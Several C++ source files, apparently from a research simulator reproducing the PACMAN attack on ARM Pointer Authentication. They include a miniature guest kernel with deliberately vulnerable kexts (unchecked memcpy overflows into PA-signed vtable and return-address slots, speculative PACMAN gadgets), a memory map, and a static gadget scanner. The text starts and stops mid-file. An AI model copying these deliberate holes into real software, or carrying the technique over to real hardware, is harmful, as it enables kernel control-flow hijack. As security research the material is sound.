    // fetches — interrupt handlers and kext code perturb the EL1
    // iTLB, not just the dTLB.
    const unsigned pages = std::min(cfg_.noisePages, 256u);
    // Per-machine scratch: injectNoise runs between every attack step,
    // so the draw bookkeeping must not allocate per call.
    std::vector<uint64_t> &tramp_pages = noiseTrampScratch_;
    std::vector<uint64_t> &arena_pages = noiseArenaScratch_;
    tramp_pages.clear();
    arena_pages.clear();
    auto draw_distinct = [&](std::vector<uint64_t> &used,
                             uint64_t bound) {
        uint64_t v;
        do {
            v = noiseRng_.next(bound);
        } while (std::find(used.begin(), used.end(), v) != used.end());
        used.push_back(v);
        return v;
    };
    for (unsigned i = 0; i < pages; ++i) {
        const bool kernel_side = noiseRng_.chance(0.4);
        if (kernel_side) {
            const Addr va = TrampolineBase +
                            draw_distinct(tramp_pages, TrampolineCount) *
                                isa::PageSize;
            mem_.access(mem::AccessKind::Load, va, 1, false);
            if (noiseRng_.chance(0.5))
                mem_.access(mem::AccessKind::Fetch, va, 1, false);
        } else {
            const Addr va = NoiseArena +
                            draw_distinct(arena_pages, 512) *
                                isa::PageSize +
                            noiseRng_.next(256) * 64;
            mem_.access(mem::AccessKind::Load, va, 0, false);
        }
    }
}

} // namespace pacman::kernel
