/**
 * @file
 * A miniature XNU-like kernel for the simulated machine.
 *
 * The kernel is genuine guest code: it is assembled into PARM64 at
 * boot, mapped into the kernel half of the address space, and entered
 * through SVC exactly like the real thing. It provides:
 *
 *  - per-boot random Pointer Authentication keys (restarting the
 *    machine re-keys, which is why naive crash-and-retry brute force
 *    fails against PA);
 *  - a syscall dispatcher and a set of loadable "kexts":
 *      * the PACMAN-gadget kext with both gadget flavours (the
 *        paper's Section 8.1 victim),
 *      * trampoline / data-touch helpers used by the reverse
 *        engineering and iTLB-eviction steps,
 *      * the reverse-engineering kext (cache-geometry reads, PMC0
 *        exposure to EL0 — Section 6.1),
 *      * the jump2win kext with a buffer overflow and a C++-style
 *        method dispatch (Section 8.3).
 */

#ifndef PACMAN_KERNEL_KERNEL_HH
#define PACMAN_KERNEL_KERNEL_HH

#include <cstdint>
#include <string>

#include "asm/program.hh"
#include "base/random.hh"
#include "cpu/core.hh"
#include "crypto/pac.hh"
#include "kernel/layout.hh"
#include "mem/hierarchy.hh"

namespace pacman::kernel
{

/** The kernel; one per Machine. */
class Kernel
{
  public:
    Kernel(cpu::Core *core, mem::MemoryHierarchy *mem, Random *rng);

    /**
     * Boot: generate keys, assemble and load the kernel image, map
     * kernel memory, initialize kext data, set VBAR.
     */
    void boot();

    /**
     * Rotate the Pointer Authentication keys without rebooting: draw
     * ten fresh key values from a dedicated Random(@p key_seed) in the
     * same register order as boot(), then re-sign the jump2win object
     * pointers under the new keys. Gives restore-per-trial campaigns
     * the per-trial "fresh boot, fresh keys" semantics at a fraction
     * of the cost, and deterministically: the same seed always
     * installs the same keys.
     */
    void rekey(uint64_t key_seed);

    /** The assembled kernel image (input to the gadget scanner). */
    const asmjit::Program &image() const { return image_; }

    /** Address of a kernel symbol (dispatcher/kext labels). */
    Addr symbol(const std::string &name) const;

    // --- Layout knowledge the paper's threat model grants ---

    /** Kernel data slots read by the PACMAN gadget. */
    Addr condSlot() const { return KernelDataBase + CondSlotOff; }
    Addr modifierSlot() const { return KernelDataBase + ModifierSlotOff; }

    /** Transient-failure count consumed by the gadget syscalls
     *  (armed host-side by the fault injector). */
    Addr busySlot() const { return KernelDataBase + BusySlotOff; }

    /** Benign data address legit signed pointers point to. */
    Addr benignData() const { return BenignDataBase; }

    /** Benign kernel function (training target for blr gadgets). */
    Addr benignFn() const { return benignFnAddr_; }

    /** The win() function (jump2win's goal). */
    Addr winFn() const { return winFnAddr_; }

    /** jump2win object addresses. */
    Addr object1Buf() const { return KernelDataBase + ObjectsOff; }
    Addr object2() const { return KernelDataBase + ObjectsOff + 24; }
    Addr vtable() const { return KernelDataBase + VtableOff; }

    // --- Host-side introspection (ground truth for tests; the
    //     attack code never calls these) ---

    /** Key material (EL1 secret). */
    crypto::PacKey key(crypto::PacKeySelect sel) const;

    /** The PAC hardware would produce for (@p ptr, @p modifier). */
    uint16_t truePac(Addr ptr, uint64_t modifier,
                     crypto::PacKeySelect sel) const;

    /** True once win() has executed. */
    bool winTriggered() const;

    /** Clear the win flag (between experiments). */
    void clearWin();

    /** Reinitialize the jump2win objects and their signed pointers. */
    void initJump2WinObjects();

  private:
    /** Install fresh PA keys drawn from @p rng (boot/rekey shared). */
    void drawKeys(Random &rng);

    /** Assemble the dispatcher + kext code. */
    asmjit::Program buildImage();

    /** Assemble the fixed-address utility functions (benign, win). */
    asmjit::Program buildFixedFns();

    /** Assemble the trampoline stubs. */
    void buildTrampolines();

    /** Load a program's words into (mapped) kernel memory. */
    void loadProgram(const asmjit::Program &prog);

    cpu::Core *core_;
    mem::MemoryHierarchy *mem_;
    Random *rng_;
    asmjit::Program image_;
    Addr benignFnAddr_ = 0;
    Addr winFnAddr_ = 0;
};

} // namespace pacman::kernel

#endif // PACMAN_KERNEL_KERNEL_HH
