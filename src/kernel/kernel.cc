#include "kernel.hh"

#include "asm/assembler.hh"
#include "base/logging.hh"
#include "isa/pointer.hh"

namespace pacman::kernel
{

using asmjit::Assembler;
using isa::SysReg;
using namespace pacman::isa; // register names

Kernel::Kernel(cpu::Core *core, mem::MemoryHierarchy *mem, Random *rng)
    : core_(core), mem_(mem), rng_(rng)
{
}

crypto::PacKey
Kernel::key(crypto::PacKeySelect sel) const
{
    return core_->pacKey(sel);
}

uint16_t
Kernel::truePac(Addr ptr, uint64_t modifier,
                crypto::PacKeySelect sel) const
{
    return crypto::computePac(isa::stripPac(ptr), modifier, key(sel),
                              isa::PacBits);
}

bool
Kernel::winTriggered() const
{
    return mem_->readVirt64(KernelDataBase + WinFlagOff) == WinMagic;
}

void
Kernel::clearWin()
{
    mem_->writeVirt64(KernelDataBase + WinFlagOff, 0);
}

Addr
Kernel::symbol(const std::string &name) const
{
    return image_.symbol(name);
}

void
Kernel::loadProgram(const asmjit::Program &prog)
{
    Addr addr = prog.base;
    for (isa::InstWord word : prog.words) {
        mem_->writeVirt(addr, word, 4);
        addr += isa::InstBytes;
    }
}

void
Kernel::drawKeys(Random &rng)
{
    // The draw order is part of the determinism contract: boot() and
    // rekey() must consume exactly these ten values in exactly this
    // order so a given seed always produces the same key material.
    static const SysReg key_regs[] = {
        SysReg::APIAKEY_LO, SysReg::APIAKEY_HI,
        SysReg::APIBKEY_LO, SysReg::APIBKEY_HI,
        SysReg::APDAKEY_LO, SysReg::APDAKEY_HI,
        SysReg::APDBKEY_LO, SysReg::APDBKEY_HI,
        SysReg::APGAKEY_LO, SysReg::APGAKEY_HI,
    };
    for (SysReg reg : key_regs)
        core_->setSysreg(reg, rng.next());
}

void
Kernel::rekey(uint64_t key_seed)
{
    // A reboot's key-relevant effects without the reboot: fresh key
    // sysregs from a dedicated generator (the machine's main stream is
    // left untouched) and re-signing of every stored signed pointer
    // (the jump2win object graph is the only one the kernel owns).
    Random key_rng(key_seed);
    drawKeys(key_rng);
    initJump2WinObjects();
}

void
Kernel::boot()
{
    // Per-boot Pointer Authentication keys: fresh secrets every boot,
    // so a crash-restart cycle re-keys and invalidates learned PACs.
    drawKeys(*rng_);

    // Map kernel memory: code, trampolines, data, benign data.
    mem::PageFlags kcode{.user = false, .writable = false,
                         .executable = true, .device = false};
    mem::PageFlags kdata{.user = false, .writable = true,
                         .executable = false, .device = false};
    mem_->mapRange(KernelCodeBase, 0x10000, kcode);
    mem_->mapRange(TrampolineBase,
                   uint64_t(TrampolineCount) * isa::PageSize, kcode);
    mem_->mapRange(KernelDataBase, KernelDataBytes, kdata);
    // 64 pages of "benign" kernel data: stand-ins for the kernel
    // objects an attacker would forge pointers to; multiple pages so
    // oracle targets with many different dTLB set indices exist.
    mem_->mapRange(BenignDataBase, 64 * isa::PageSize, kdata);

    // Fixed-address utility functions live above the dispatcher so
    // kexts can materialize their addresses with mov64. win() gets
    // its own page: the instruction oracle distinguishes the fetch of
    // the verified pointer from the BTB-predicted fetch of benign_fn,
    // which requires them to live in different pages (Section 4.2).
    benignFnAddr_ = KernelCodeBase + 0x8000;
    winFnAddr_ = KernelCodeBase + 0xC000;

    image_ = buildImage();
    if (image_.end() > benignFnAddr_) {
        fatal("kernel image overflows into fixed-function page "
              "(end=0x%llx)", (unsigned long long)image_.end());
    }
    loadProgram(image_);
    loadProgram(buildFixedFns());
    buildTrampolines();

    // Exception vector: SVC enters the dispatcher.
    core_->setSysreg(SysReg::VBAR_EL1, image_.symbol("entry"));

    // Kext data initialization.
    mem_->writeVirt64(condSlot(), 0);
    mem_->writeVirt64(modifierSlot(), 0);
    mem_->writeVirt64(busySlot(), 0);
    clearWin();
    initJump2WinObjects();

    // Something recognizable at the benign data address.
    mem_->writeVirt64(BenignDataBase, 0xB0B0'CAFE'F00Dull);
}

void
Kernel::initJump2WinObjects()
{
    // Two adjacent heap objects (Figure 9 layout):
    //   object1: 16-byte buf, 8-byte member
    //   object2: vtable pointer (PA-protected), members...
    const Addr obj1_buf = object1Buf();
    const Addr obj2 = object2();
    const Addr vtab = vtable();

    for (unsigned i = 0; i < 3; ++i)
        mem_->writeVirt64(obj1_buf + 8 * i, 0);

    // object2.vtable = sign_DA(vtable, salt = object2 address).
    mem_->writeVirt64(
        obj2, isa::signPointer(vtab, obj2, key(crypto::PacKeySelect::DA)));

    // vtable[0] = sign_IA(benign_method, salt = object2 address + 8)
    // (the paper: "the salt is the object address plus a compile-time
    // constant").
    mem_->writeVirt64(vtab, isa::signPointer(
        benignFnAddr_, obj2 + 8, key(crypto::PacKeySelect::IA)));
}

asmjit::Program
Kernel::buildFixedFns()
{
    Assembler a(benignFnAddr_);

    // benign_fn: the function legitimate signed code pointers target.
    a.label("benign_fn");
    a.nop();
    a.ret();

    // Pad to the fixed win() address (its own page; see boot()).
    while (a.here() < winFnAddr_)
        a.nop();

    // win: proof of control-flow hijack — sets the win flag, then
    // returns to userspace directly (a hijacker cannot rely on a
    // sane link register, but ELR_EL1 still holds the syscall return
    // point, so eret is the clean exit a real payload would pivot to).
    a.label("win");
    a.mov64(X9, KernelDataBase + WinFlagOff);
    a.mov64(X10, WinMagic);
    a.str(X10, X9, 0);
    a.eret();

    return a.finalize();
}

void
Kernel::buildTrampolines()
{
    // One `ret` stub at the start of each trampoline page; used via
    // SYS_FETCH_TRAMP to create kernel iTLB pressure from userspace
    // (the instruction-oracle's eviction step, Section 8.1).
    for (unsigned i = 0; i < TrampolineCount; ++i) {
        Assembler a(TrampolineBase + uint64_t(i) * isa::PageSize);
        a.ret();
        loadProgram(a.finalize());
    }
}

asmjit::Program
Kernel::buildImage()
{
    Assembler a(KernelCodeBase);

    // --- Syscall dispatcher -------------------------------------
    a.label("entry");
    struct Entry
    {
        Syscall num;
        const char *label;
    };
    static const Entry table[] = {
        {SYS_NOP, "h_nop"},
        {SYS_SET_COND, "h_set_cond"},
        {SYS_SET_MODIFIER, "h_set_modifier"},
        {SYS_GADGET_DATA, "h_gadget_data"},
        {SYS_GADGET_INST, "h_gadget_inst"},
        {SYS_GET_LEGIT_DATA, "h_get_legit_data"},
        {SYS_GET_LEGIT_INST, "h_get_legit_inst"},
        {SYS_FETCH_TRAMP, "h_fetch_tramp"},
        {SYS_TOUCH_DATA, "h_touch_data"},
        {SYS_READ_CACHE_CFG, "h_read_cache_cfg"},
        {SYS_ENABLE_PMC_EL0, "h_enable_pmc"},
        {SYS_J2W_MEMCPY, "h_j2w_memcpy"},
        {SYS_J2W_CALL, "h_j2w_call"},
        {SYS_J2W_RESET, "h_j2w_reset"},
        {SYS_R2W_CALL, "h_r2w_call"},
        {SYS_GADGET_BRAA, "h_gadget_braa"},
    };
    for (const Entry &entry : table) {
        a.cmpi(X16, int64_t(entry.num));
        a.bcond(Cond::EQ, entry.label);
    }
    a.brk(0xBAD); // unknown syscall

    a.label("h_nop");
    a.eret();

    // --- PACMAN-gadget kext --------------------------------------

    a.label("h_set_cond");
    a.mov64(X9, KernelDataBase);
    a.str(X0, X9, int64_t(CondSlotOff));
    a.eret();

    a.label("h_set_modifier");
    a.mov64(X9, KernelDataBase);
    a.str(X0, X9, int64_t(ModifierSlotOff));
    a.eret();

    // Data PACMAN gadget (paper Figure 3(a)). The guard condition is
    // loaded from memory, so its resolution time — and therefore the
    // speculation window — is controlled by the attacker's TLB reset.
    //
    // Each gadget handler first services the transient-failure count:
    // while the busy slot is nonzero the call decrements it and
    // returns SyscallBusy (-EAGAIN) without running the gadget body.
    // The slot lives on its own kernel-data page so this check never
    // touches the reset-evicted cond-slot translation.
    a.label("h_gadget_data");
    a.mov64(X12, KernelDataBase + BusySlotOff);
    a.ldr(X13, X12, 0);
    a.cbz(X13, "gd_run");
    a.subi(X13, X13, 1);
    a.str(X13, X12, 0);
    a.mov64(X0, SyscallBusy);
    a.eret();
    a.label("gd_run");
    a.mov64(X9, KernelDataBase);
    a.ldr(X1, X9, int64_t(CondSlotOff));       // slow after TLB reset
    a.ldr(X10, X9, int64_t(ModifierSlotOff));
    a.cbnz(X1, "gd_body");
    a.b("gd_out");
    a.label("gd_body");
    a.autda(X0, X10);                          // verification op
    a.ldr(X2, X0, 0);                          // transmission op
    a.label("gd_out");
    a.eret();

    // Instruction PACMAN gadget (paper Figure 3(b)).
    a.label("h_gadget_inst");
    a.mov64(X12, KernelDataBase + BusySlotOff);
    a.ldr(X13, X12, 0);
    a.cbz(X13, "gi_run");
    a.subi(X13, X13, 1);
    a.str(X13, X12, 0);
    a.mov64(X0, SyscallBusy);
    a.eret();
    a.label("gi_run");
    a.mov64(X9, KernelDataBase);
    a.ldr(X1, X9, int64_t(CondSlotOff));
    a.ldr(X10, X9, int64_t(ModifierSlotOff));
    a.cbnz(X1, "gi_body");
    a.b("gi_out");
    a.label("gi_body");
    a.autia(X0, X10);                          // verification op
    a.blr(X0);                                 // transmission op (BR2)
    a.label("gi_out");
    a.eret();

    // Combined-instruction PACMAN gadget: braa folds the paper's
    // verification and transmission operations into one ARMv8.3
    // instruction. Notably, a fence-after-aut mitigation cannot be
    // applied inside it.
    a.label("h_gadget_braa");
    a.mov64(X12, KernelDataBase + BusySlotOff);
    a.ldr(X13, X12, 0);
    a.cbz(X13, "gb_run");
    a.subi(X13, X13, 1);
    a.str(X13, X12, 0);
    a.mov64(X0, SyscallBusy);
    a.eret();
    a.label("gb_run");
    a.mov64(X9, KernelDataBase);
    a.ldr(X1, X9, int64_t(CondSlotOff));
    a.ldr(X10, X9, int64_t(ModifierSlotOff));
    a.cbnz(X1, "gb_body");
    a.b("gb_out");
    a.label("gb_body");
    a.blraa(X0, X10);                          // verify + transmit
    a.label("gb_out");
    a.eret();

    // Return a correctly signed data pointer (benign data, current
    // modifier). Real PA kernels are full of validly signed pointers;
    // the attacker uses one to train the gadget without crashing.
    a.label("h_get_legit_data");
    a.mov64(X9, KernelDataBase);
    a.ldr(X10, X9, int64_t(ModifierSlotOff));
    a.mov64(X0, BenignDataBase);
    a.pacda(X0, X10);
    a.eret();

    a.label("h_get_legit_inst");
    a.mov64(X9, KernelDataBase);
    a.ldr(X10, X9, int64_t(ModifierSlotOff));
    a.mov64(X0, benignFnAddr_);
    a.pacia(X0, X10);
    a.eret();

    // Fetch the x0-th trampoline page as an instruction: lets EL0
    // create kernel-iTLB set pressure (instruction-oracle step 5).
    a.label("h_fetch_tramp");
    a.mov64(X9, TrampolineBase);
    a.lsli(X10, X0, unsigned(isa::PageShift));
    a.add(X9, X9, X10);
    a.blr(X9);
    a.eret();

    // Touch benign kernel data at byte offset x0 (dTLB experiments).
    a.label("h_touch_data");
    a.mov64(X9, BenignDataBase);
    a.ldrr(X10, X9, X0);
    a.eret();

    // --- Reverse-engineering kext (Section 6) --------------------

    // Read cache geometry: x0 = CSSELR selector -> returns CCSIDR.
    a.label("h_read_cache_cfg");
    a.msr(SysReg::CSSELR_EL1, X0);
    a.mrs(X0, SysReg::CCSIDR_EL1);
    a.eret();

    // Expose PMC0/PMC1 to EL0 (the paper's reverse-engineering kext).
    a.label("h_enable_pmc");
    a.mov64(X9, uint64_t(isa::PMCR0_ENABLE) |
                uint64_t(isa::PMCR0_EL0_ACCESS));
    a.msr(SysReg::PMCR0, X9);
    a.eret();

    // --- jump2win kext (Section 8.3) ------------------------------

    // memcpy(object1.buf, user_src, len) with no bounds check: the
    // buffer overflow of Listing 1 / Figure 9.
    a.label("h_j2w_memcpy");
    a.mov64(X9, object1Buf());
    a.movz(X10, 0);
    a.label("j2w_copy_loop");
    a.cmp(X10, X1);
    a.bcond(Cond::GE, "j2w_copy_done");
    a.add(X12, X0, X10);
    a.ldrb(X11, X12, 0);
    a.add(X13, X9, X10);
    a.strb(X11, X13, 0);
    a.addi(X10, X10, 1);
    a.b("j2w_copy_loop");
    a.label("j2w_copy_done");
    a.eret();

    // C++-style method dispatch on object2 (Listing 2): authenticate
    // the vtable pointer (DA, salt = object), load and authenticate
    // the method pointer (IA, salt = object + 8), call it.
    a.label("h_j2w_call");
    a.mov64(X9, object2());
    a.ldr(X1, X9, 0);       // signed vtable pointer
    a.mov(X10, X9);
    a.autda(X1, X10);       // vtable_ptr = AUT(*object)
    a.ldr(X2, X1, 0);       // signed method pointer
    a.addi(X11, X9, 8);
    a.autia(X2, X11);       // fp = AUT(vtable[0])
    a.blr(X2);              // call fp
    a.eret();

    // --- ret2win kext -------------------------------------------
    // A function with the paper's Figure 2 prologue/epilogue (return
    // address signed against SP) and an unchecked stack-buffer copy:
    // the return-address flavour of the control-flow hijack.
    a.label("h_r2w_call");
    a.mov64(X15, KernelStackTop);
    a.mov(SP, X15);              // exception entry: kernel stack
    a.bl("r2w_fn");
    a.eret();
    a.label("r2w_fn");
    a.pacia(LR, SP);             // Figure 2(a): sign return address
    a.subi(SP, SP, 0x40);
    a.str(LR, SP, 0x30);
    // memcpy(stack_buf @ sp+0x10, user_src = x0, len = x1): the
    // 32-byte buffer overflows into the saved return address.
    a.movz(X10, 0);
    a.label("r2w_copy_loop");
    a.cmp(X10, X1);
    a.bcond(Cond::GE, "r2w_copy_done");
    a.add(X12, X0, X10);
    a.ldrb(X11, X12, 0);
    a.add(X13, SP, X10);
    a.addi(X13, X13, 0x10);
    a.strb(X11, X13, 0);
    a.addi(X10, X10, 1);
    a.b("r2w_copy_loop");
    a.label("r2w_copy_done");
    a.ldr(LR, SP, 0x30);         // Figure 2(b): restore + verify
    a.addi(SP, SP, 0x40);
    a.autia(LR, SP);
    a.ret();

    // Re-sign and reset the objects from kernel context.
    a.label("h_j2w_reset");
    // object2.vtable = pacda(vtable, object2)
    a.mov64(X9, object2());
    a.mov64(X1, vtable());
    a.mov(X10, X9);
    a.pacda(X1, X10);
    a.str(X1, X9, 0);
    // vtable[0] = pacia(benign_fn, object2 + 8)
    a.mov64(X2, benignFnAddr_);
    a.addi(X11, X9, 8);
    a.pacia(X2, X11);
    a.mov64(X12, vtable());
    a.str(X2, X12, 0);
    a.eret();

    return a.finalize();
}

} // namespace pacman::kernel
