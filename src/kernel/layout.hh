/**
 * @file
 * The machine's virtual memory map.
 *
 * User half (VA bit 47 = 0):
 *   0x0000'4000'0000  user code (attacker routines)
 *   0x0000'6000'0000  user data (argument/result arrays)
 *   0x0000'7F00'0000  timer device page (shared counter)
 *   0x0001'0000'0000  eviction-set arena (sparse, hundreds of MB)
 *   0x0002'0000'0000  JIT region (user-executable, Figure 5(c))
 *
 * Kernel half (VA bit 47 = 1, extension 0xFFFF):
 *   0xFFFF'8000'0010'0000  kernel code (dispatcher + kexts)
 *   0xFFFF'8000'0100'0000  trampoline region (256 executable pages)
 *   0xFFFF'8000'0200'0000  kernel data (gadget slots, objects, flags)
 *   0xFFFF'8000'0300'0000  benign kernel data page (oracle targets)
 */

#ifndef PACMAN_KERNEL_LAYOUT_HH
#define PACMAN_KERNEL_LAYOUT_HH

#include "isa/pointer.hh"

namespace pacman::kernel
{

using isa::Addr;

// --- User half ---
constexpr Addr UserCodeBase = 0x0000'4000'0000ull;
constexpr Addr UserDataBase = 0x0000'6000'0000ull;
constexpr Addr UserStackTop = 0x0000'7000'0000ull;
constexpr Addr NoiseArena = 0x0000'5000'0000ull;
constexpr Addr TimerPage = 0x0000'7F00'0000ull;
constexpr Addr EvictionArena = 0x0001'0000'0000ull;
constexpr Addr JitBase = 0x0002'0000'0000ull;

// --- Kernel half ---
constexpr Addr KernelBase = 0xFFFF'8000'0000'0000ull;
constexpr Addr KernelCodeBase = KernelBase + 0x0010'0000ull;
constexpr Addr TrampolineBase = KernelBase + 0x0100'0000ull;
constexpr unsigned TrampolineCount = 256;
constexpr Addr KernelDataBase = KernelBase + 0x0200'0000ull;
constexpr Addr BenignDataBase = KernelBase + 0x0300'0000ull;

// --- Kernel data offsets (from KernelDataBase) ---
constexpr uint64_t CondSlotOff = 0x0;       //!< gadget guard value
constexpr uint64_t ModifierSlotOff = 0x8;   //!< gadget PA modifier
constexpr uint64_t WinFlagOff = 0x100;      //!< set by win()
constexpr uint64_t ObjectsOff = 0x4000;     //!< jump2win heap objects
                                            //!< (own page)
constexpr uint64_t VtableOff = 0x8000;      //!< object2's real vtable

/**
 * Kernel stack for the ret2win kext (grows down from the end of the
 * kernel-data region; its own page, clear of the other kext data).
 */
constexpr Addr KernelStackTop = KernelDataBase + 0x10000;

/**
 * Transient-failure count consumed by the gadget syscalls: while
 * nonzero, each gadget invocation decrements it and returns
 * SyscallBusy instead of running the gadget body (the fault
 * injector's "kext resource temporarily busy" event). Deliberately
 * on its own kernel-data page (the one above the stack page): the
 * busy check must not touch the cond-slot page, or it would refill
 * the translation the oracle's reset step just evicted and collapse
 * the speculation window.
 */
constexpr uint64_t BusySlotOff = 0x10000;

/** Total kernel-data mapping size (cond/flags, objects, vtable,
 *  stack, busy pages). */
constexpr uint64_t KernelDataBytes = 0x14000;

/** Retryable gadget-syscall error value (-EAGAIN, as returned by a
 *  real kernel). Never a valid signed-pointer return: the extension
 *  bits and VA part match no mapped kernel object. */
constexpr uint64_t SyscallBusy = uint64_t(-11);

/** The value win() writes into the win flag. */
constexpr uint64_t WinMagic = 0x57494E21ull; // "WIN!"

// --- Syscall numbers ---
enum Syscall : uint16_t
{
    SYS_NOP = 0,
    SYS_SET_COND = 1,       //!< x0 -> cond slot
    SYS_SET_MODIFIER = 2,   //!< x0 -> modifier slot
    SYS_GADGET_DATA = 3,    //!< x0 = signed pointer (data gadget)
    SYS_GADGET_INST = 4,    //!< x0 = signed pointer (inst gadget)
    SYS_GET_LEGIT_DATA = 5, //!< returns a validly signed data pointer
    SYS_GET_LEGIT_INST = 6, //!< returns a validly signed code pointer
    SYS_FETCH_TRAMP = 7,    //!< x0 = trampoline index; fetches it
    SYS_TOUCH_DATA = 8,     //!< x0 = byte offset into benign data
    SYS_READ_CACHE_CFG = 9, //!< x0 = CSSELR value; returns CCSIDR
    SYS_ENABLE_PMC_EL0 = 10, //!< grant EL0 access to PMC0/PMC1
    SYS_J2W_MEMCPY = 11,    //!< x0 = user src, x1 = len (overflowable)
    SYS_J2W_CALL = 12,      //!< virtual dispatch on object2
    SYS_J2W_RESET = 13,     //!< re-initialize the jump2win objects
    SYS_R2W_CALL = 14,      //!< x0 = user src, x1 = len: calls a
                            //!< function with a PA-protected return
                            //!< address and a stack buffer overflow
    SYS_GADGET_BRAA = 15,   //!< x0 = signed pointer: the combined
                            //!< authenticate-and-branch gadget
};

} // namespace pacman::kernel

#endif // PACMAN_KERNEL_LAYOUT_HH
