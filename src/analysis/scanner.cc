#include "scanner.hh"

#include <array>

#include "base/stats.hh"
#include "isa/disasm.hh"
#include "isa/encoding.hh"

namespace pacman::analysis
{

using isa::Addr;
using isa::Inst;
using isa::InstClass;
using isa::Opcode;

uint64_t
ScanReport::dataCount() const
{
    uint64_t n = 0;
    for (const Gadget &g : gadgets) {
        if (g.type == GadgetType::Data)
            ++n;
    }
    return n;
}

uint64_t
ScanReport::instCount() const
{
    return gadgets.size() - dataCount();
}

double
ScanReport::meanDistance() const
{
    if (gadgets.empty())
        return 0.0;
    uint64_t sum = 0;
    for (const Gadget &g : gadgets)
        sum += g.distance;
    return double(sum) / double(gadgets.size());
}

GadgetScanner::GadgetScanner(unsigned window)
    : window_(window)
{
}

namespace
{

/** Decode the word at @p pc, if inside the program. */
std::optional<Inst>
instAt(const asmjit::Program &prog, Addr pc)
{
    if (pc < prog.base || pc >= prog.end() || pc % isa::InstBytes != 0)
        return std::nullopt;
    return isa::decode(prog.words[(pc - prog.base) / isa::InstBytes]);
}

} // anonymous namespace

void
GadgetScanner::walkPath(const asmjit::Program &prog, Addr branch_pc,
                        Addr start, bool taken,
                        std::vector<Gadget> &out) const
{
    // For each register, the pc of the live aut that produced it
    // (0 = not an authenticated pointer).
    std::array<Addr, isa::NumRegs> aut_origin{};

    Addr pc = start;
    for (unsigned dist = 1; dist <= window_; ++dist) {
        const auto inst = instAt(prog, pc);
        if (!inst)
            return;

        const InstClass cls = isa::instClass(inst->op);

        // Transmission checks come before liveness updates so that
        // e.g. "ldr x2, [x0]" with x0 authenticated counts even
        // though it writes x2.
        if (cls == InstClass::Load || cls == InstClass::Store) {
            Addr origin = aut_origin[inst->rn];
            if (origin == 0 && isa::readsRm(*inst))
                origin = aut_origin[inst->rm];
            if (origin == 0 &&
                (cls == InstClass::Store && aut_origin[inst->rd]))
                origin = aut_origin[inst->rd];
            if (origin != 0) {
                out.push_back({GadgetType::Data, branch_pc, origin, pc,
                               taken, dist});
                // One report per aut+transmit pair: clear the origin.
                for (auto &slot : aut_origin) {
                    if (slot == origin)
                        slot = 0;
                }
            }
        } else if (cls == InstClass::BranchIndirect) {
            if (isa::isAuthBranch(inst->op)) {
                // braa/blraa/retaa: verification and transmission in
                // one instruction — always a complete gadget body.
                out.push_back({GadgetType::Instruction, branch_pc, pc,
                               pc, taken, dist});
            } else if (const Addr origin = aut_origin[inst->rn];
                       origin != 0) {
                out.push_back({GadgetType::Instruction, branch_pc,
                               origin, pc, taken, dist});
                for (auto &slot : aut_origin) {
                    if (slot == origin)
                        slot = 0;
                }
            }
        }

        // Liveness update.
        if (isa::isPacAuth(inst->op) && inst->op != Opcode::XPAC) {
            aut_origin[inst->rd] = pc;
        } else if (isa::writesRd(*inst)) {
            aut_origin[inst->rd] = 0;
            if (inst->op == Opcode::BL || inst->op == Opcode::BLR)
                aut_origin[isa::LR] = 0;
        }

        // Path continuation: straight-line plus direct branches.
        if (inst->op == Opcode::B) {
            pc = pc + uint64_t(inst->imm);
            continue;
        }
        if (cls == InstClass::BranchIndirect ||
            inst->op == Opcode::ERET || inst->op == Opcode::HLT ||
            inst->op == Opcode::BRK) {
            return; // end of statically followable path
        }
        pc += isa::InstBytes;
    }
}

ScanReport
GadgetScanner::scan(const asmjit::Program &prog) const
{
    ScanReport report;
    report.instsScanned = prog.words.size();

    for (size_t i = 0; i < prog.words.size(); ++i) {
        const auto inst = isa::decode(prog.words[i]);
        if (!inst || !isa::isCondBranch(inst->op))
            continue;
        ++report.condBranches;
        const Addr pc = prog.base + i * isa::InstBytes;
        walkPath(prog, pc, pc + uint64_t(inst->imm), true,
                 report.gadgets);
        walkPath(prog, pc, pc + isa::InstBytes, false, report.gadgets);
    }
    return report;
}

std::string
describeGadget(const Gadget &gadget, const asmjit::Program &prog)
{
    const auto aut = instAt(prog, gadget.autPc);
    const auto tx = instAt(prog, gadget.transmitPc);
    return strprintf(
        "%s gadget: branch@0x%llx (%s path) -> %s @0x%llx -> %s @0x%llx "
        "(distance %u)",
        gadget.type == GadgetType::Data ? "data" : "instruction",
        (unsigned long long)gadget.branchPc,
        gadget.takenDirection ? "taken" : "fall-through",
        aut ? isa::disassemble(*aut).c_str() : "?",
        (unsigned long long)gadget.autPc,
        tx ? isa::disassemble(*tx).c_str() : "?",
        (unsigned long long)gadget.transmitPc, gadget.distance);
}

} // namespace pacman::analysis
