/**
 * @file
 * Static PACMAN-gadget scanner (paper Section 4.3).
 *
 * Reimplements the paper's Ghidra script for PARM64 binaries: find
 * every conditional branch, walk up to a window of instructions down
 * both the taken and fall-through directions, and report an
 * aut-instruction whose destination register later feeds a memory
 * access (data PACMAN gadget) or an indirect branch (instruction
 * PACMAN gadget), tracking data dependence through registers.
 */

#ifndef PACMAN_ANALYSIS_SCANNER_HH
#define PACMAN_ANALYSIS_SCANNER_HH

#include <cstdint>
#include <string>
#include <vector>

#include "asm/program.hh"
#include "isa/inst.hh"

namespace pacman::analysis
{

/** Gadget flavours (Figure 3). */
enum class GadgetType
{
    Data,        //!< aut -> load/store
    Instruction, //!< aut -> br/blr/ret
};

/** One discovered gadget. */
struct Gadget
{
    GadgetType type;
    isa::Addr branchPc = 0;   //!< guarding conditional branch
    isa::Addr autPc = 0;      //!< verification instruction
    isa::Addr transmitPc = 0; //!< transmission instruction
    bool takenDirection = false; //!< found down the taken path
    unsigned distance = 0;    //!< insts from branch to transmit
};

/** Scan summary (the Section 4.3 numbers). */
struct ScanReport
{
    uint64_t instsScanned = 0;
    uint64_t condBranches = 0;
    std::vector<Gadget> gadgets;

    uint64_t total() const { return gadgets.size(); }
    uint64_t dataCount() const;
    uint64_t instCount() const;
    double meanDistance() const;
};

/** The scanner. */
class GadgetScanner
{
  public:
    /**
     * @param window Instructions examined down each branch direction
     *               (the paper uses 32).
     */
    explicit GadgetScanner(unsigned window = 32);

    /** Scan an assembled program. */
    ScanReport scan(const asmjit::Program &prog) const;

  private:
    /** Walk one direction from @p start, collecting gadgets. */
    void walkPath(const asmjit::Program &prog, isa::Addr branch_pc,
                  isa::Addr start, bool taken,
                  std::vector<Gadget> &out) const;

    unsigned window_;
};

/** Render a gadget as a short human-readable line. */
std::string describeGadget(const Gadget &gadget,
